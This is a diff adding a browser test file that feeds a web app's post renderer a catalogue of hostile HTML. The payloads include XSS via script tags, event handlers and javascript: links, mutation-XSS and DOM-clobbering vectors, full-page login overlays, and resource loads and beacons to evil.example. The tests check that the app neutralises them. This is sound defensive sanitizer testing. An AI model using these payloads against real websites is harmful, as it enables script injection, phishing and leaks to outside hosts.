@@ -1,0 +1,219 @@
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { violations } from '../../support/axe.ts';
+import { hydrated, visit } from '../../support/browser.ts';
+import {
+  addressPlaces,
+  filterPlace,
+  listPlaces,
+  postPlace,
+  startHostileSite,
+  ways,
+} from '../../support/hostile-site.ts';
+import { judgeOf, notLoaded } from '../../support/page-judge.ts';
+import type { Site } from '../../support/site.ts';
+
+const cover = 'position:fixed;inset:0;z-index:2147483647;background:red';
+const video = 'VgJQ8nPzEMQ';
+const player = 'https://www.youtube-nocookie.com';
+
+const payloads = Object.entries({
+  script: '<script>alert(1)</script><script src="//evil.example/x.js"></script>',
+  handlers: '<img src=x onerror=alert(1)><svg onload=alert(1)><p onclick=alert(1)>Read</p>',
+  focus:
+    '<input autofocus onfocus=alert(1)><a href=# tabindex=1 autofocus onfocus=alert(1)>Read</a>',
+  schemes: '<a href="jav&#9;ascript&colon;alert(1)">a</a><a href="&#1;javascript:alert(1)">b</a>',
+  frames: `<iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src="javascript:alert(1)"></iframe><iframe src="//evil.example"></iframe>`,
+  plugins:
+    '<object data="//evil.example/x.swf"></object><embed src="data:text/html,<script>alert(1)</script>">',
+  styles:
+    '<style>@import "//evil.example/x.css"; * { display: none }</style><link rel=stylesheet href=//evil.example/y.css>',
+  cover: `<div style="${cover}"><a href="//evil.example" style="${cover}">Log in</a></div><dialog open style="${cover}">Log in</dialog>`,
+  classes:
+    '<div class="TopNavigation_bar Snackbar_snackbar CookieBanner_banner table-frame">Log in</div>',
+  forms:
+    '<form action="//evil.example"><input name=password><button formaction=javascript:alert(1)>Log in</button></form>',
+  head: '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example"><title>Evil</title>',
+  clobber:
+    '<a id=page-data name=body href=#>a</a><img name=getElementById><form id=location><input name=children>',
+  pageData:
+    '</script><script type="application/json" id="page-data">{}</script><div data-item="other" data-content data-late>',
+  noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  foreign:
+    '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject><use href="//evil.example/x.svg#a"/><animate attributeName=href values=javascript:alert(1)></svg>',
+  mathMutation:
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  formMutation:
+    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
+  rawText:
+    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><listing>&lt;img onerror=alert(1)&gt;</listing>',
+  comments:
+    '<!--><img src=x onerror=alert(1)>--><!--[if true]><script>alert(1)</script><![endif]--><![CDATA[<img src=x onerror=alert(1)>]]>',
+  tables:
+    '<table><td><table><form><tr><form><script>alert(1)</script></table><a href=x><table><a href=y>z',
+  breakOut:
+    '</div></article></main></body></html><header><nav><a href="//evil.example">Home</a></nav></header>',
+  requests:
+    '<video src="//evil.example/a.mp4" poster="//evil.example/b.png"></video><audio src="//evil.example/a.mp3" autoplay></audio><picture><source srcset="//evil.example/c.png"><img src="data:text/html,x" srcset="//evil.example/d.png"></picture><body background="//evil.example/e.png">',
+  beacon:
+    '<img src="https://evil.example/count" width=1 height=1><a href=/ ping="//evil.example/ping">Home</a>',
+  wide: `<pre>${'x'.repeat(3_000)}</pre><img src="https://evil.example/wide.png" width=4000><table><tr>${'<td>wide wide wide'.repeat(60)}</table>${'y'.repeat(3_000)}`,
+  deep: `${'<div><blockquote>'.repeat(3_000)}Deep`,
+  template:
+    '<template><script>alert(1)</script></template><template shadowrootmode=open><img src=x onerror=alert(1)></template>',
+  entities:
+    '&lt;img src=x onerror=alert(1)&gt; &amp;lt;script&amp;gt; \u2028 </textarea><img src=x onerror=alert(1)>',
+  controls: 'Gr\0ace \u202egnorw\u202c <a href="java\0script:alert(1)">Read</a>\ud800',
+  plaintext: '<plaintext><img src=x onerror=alert(1)>',
+}).map(([id, html]) => ({ id, html }));
+
+const ids = payloads.map(({ id }) => id);
+
+const pixel = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==';
+const picture = `src="${pixel}" width="320" height="180"`;
+const linkedPictures = `
+  <div class="separator"><a href="https://1.bp.blogspot.com/-A/B/C/D/s1600/lamp.jpg" imageanchor="1"><img border="0" ${picture}></a></div>
+  <a href="https://1.bp.blogspot.com/-A/B/C/D/s1600/road.jpg"><img ${picture} alt="A road"></a>
+  <a href="https://www.example.org/tool"><img ${picture}></a>
+  <a href="https://www.example.org/empty"></a>`;
+
+let site: Site;
+
+beforeAll(async () => {
+  site = await startHostileSite([
+    ...payloads,
+    { id: 'video', html: `<iframe src="//youtu.be/${video}"></iframe>` },
+    { id: 'pictures', html: linkedPictures },
+  ]);
+});
+
+afterAll(() => site.close());
+
+const byWay = Object.entries(ways);
+const byPlaceAndWay = <T>(places: Record<string, T>) =>
+  Object.entries(places).flatMap(([place, pathOf]) =>
+    byWay.map(([name, way]) => [place, name, pathOf, way] as const),
+  );
+
+test.each(byPlaceAndWay(listPlaces))(
+  'as %s, by %s, hostile posts do no harm',
+  (_, __, pathOf, way) =>
+    visit(
+      site.url,
+      async ({ page }) => {
+        const harm = judgeOf(page, site.url);
+        await way(page, pathOf(ids));
+        expect(await page.locator('[data-item]').count()).toBeGreaterThanOrEqual(ids.length);
+        expect(await harm()).toEqual([]);
+      },
+      { expectedComplaints: notLoaded },
+    ),
+);
+
+/** Those that would do harm in a text, too. */
+const inTexts = payloads.filter(({ id }) =>
+  ['script', 'handlers', 'pageData', 'breakOut', 'rawText', 'controls'].includes(id),
+);
+
+test.each(byWay)('as content and title of a page, by %s, hostile posts do no harm', (_, way) =>
+  visit(
+    site.url,
+    async ({ page }) => {
+      const harm = judgeOf(page, site.url);
+      for (const { id } of inTexts) {
+        await way(page, postPlace([id]));
+        expect(await page.locator('article [data-content]').count(), id).toBe(1);
+        expect(await harm(), id).toEqual([]);
+      }
+    },
+    { expectedComplaints: notLoaded },
+  ),
+);
+
+test.each(byPlaceAndWay({ ...addressPlaces, filter: filterPlace }))(
+  'as %s, by %s, hostile words do no harm',
+  (_, __, pathOf, way) =>
+    visit(
+      site.url,
+      async ({ page }) => {
+        const harm = judgeOf(page, site.url);
+        for (const { id, html } of inTexts) {
+          await way(page, pathOf(html.toWellFormed()));
+          expect(await harm(), id).toEqual([]);
+        }
+      },
+      { expectedComplaints: notLoaded },
+    ),
+);
+
+test('what a post says in place of what it may not is read as text', () =>
+  visit(
+    site.url,
+    async ({ page }) => {
+      await page.goto('/quotes?pageToken=handlers__entities');
+      await hydrated(page);
+      const [handlers, entities] = await page.locator('[data-content]').allInnerTexts();
+      expect(handlers).toBe('Read');
+      expect(entities).toContain('<img src=x onerror=alert(1)> &lt;script&gt;');
+      const title = page.locator('[data-item="handlers"] h3');
+      expect(await title.innerText()).toBe(payloads.find(({ id }) => id === 'handlers')?.html);
+    },
+    { expectedComplaints: notLoaded },
+  ));
+
+test('a video is framed by its player only, when it is near, and keeps its proportions', () =>
+  visit(site.url, async ({ page }) => {
+    const harm = judgeOf(page, site.url);
+    await page.route(`${player}/**`, (route) =>
+      route.fulfill({ body: '<p>A video</p>', contentType: 'text/html' }),
+    );
+    await page.goto(postPlace(['video']));
+    await hydrated(page);
+    const frame = page.locator('[data-content] iframe');
+    await expect
+      .poll(() => page.frames().map((shown) => shown.url()))
+      .toContain(`${player}/embed/${video}`);
+    const box = await frame.boundingBox();
+    expect((box?.width ?? 0) / (box?.height ?? 1)).toBeCloseTo(16 / 9, 1);
+    expect(await frame.getAttribute('src')).toBe(`${player}/embed/${video}`);
+    expect(await harm()).toEqual([]);
+  }));
+
+test('a linked picture tells a screen reader what the link does, and a link without anything in it is none', () =>
+  visit(site.url, async ({ page }) => {
+    await page.goto(postPlace(['pictures']));
+    await hydrated(page);
+    const links = page.locator('[data-content]').getByRole('link');
+    expect(await links.count()).toBe(3);
+    for (const name of ['Open the picture', 'Open the picture: A road', 'Link to example.org']) {
+      expect(await links.and(page.getByRole('link', { name, exact: true })).count(), name).toBe(1);
+    }
+    expect((await page.locator('[data-content]').innerText()).trim()).toBe('');
+    expect(await violations(page)).toEqual([]);
+  }));
+
+test.each([
+  ['a script', '<script>alert(1)</script>', /script/],
+  ['a handler', '<img src=x onerror=alert(1)>', /handler onerror|inline event handler/],
+  ['a style', `<div style="${cover}">x</div>`, /attribute style/],
+  ['a cover', '<div class="TopNavigation_bar">x</div>', /position (fixed|sticky)/],
+  ['a request', '<img src="http://evil.example/a.png">', /evil\.example/],
+  ['a frame', '<iframe src="https://evil.example"></iframe>', /evil\.example/],
+])('the judge would tell of %s that is let through', (_, html, expected) =>
+  visit(
+    site.url,
+    async ({ page }) => {
+      const harm = judgeOf(page, site.url);
+      await page.route('**/api/quotes?q=hostile', async (route) => {
+        const post = { id: '1', title: 'A title', published: null, content: html };
+        await route.fulfill({ json: { posts: [post] } });
+      });
+      await page.goto('/quotes');
+      await hydrated(page);
+      await harm();
+      await ways['client navigation'](page, '/quotes?q=hostile');
+      await page.locator('[data-item="1"]').waitFor();
+      await expect.poll(async () => (await harm()).join('\n')).toMatch(expected);
+    },
+    { expectedComplaints: /./ },
+  ),
+);
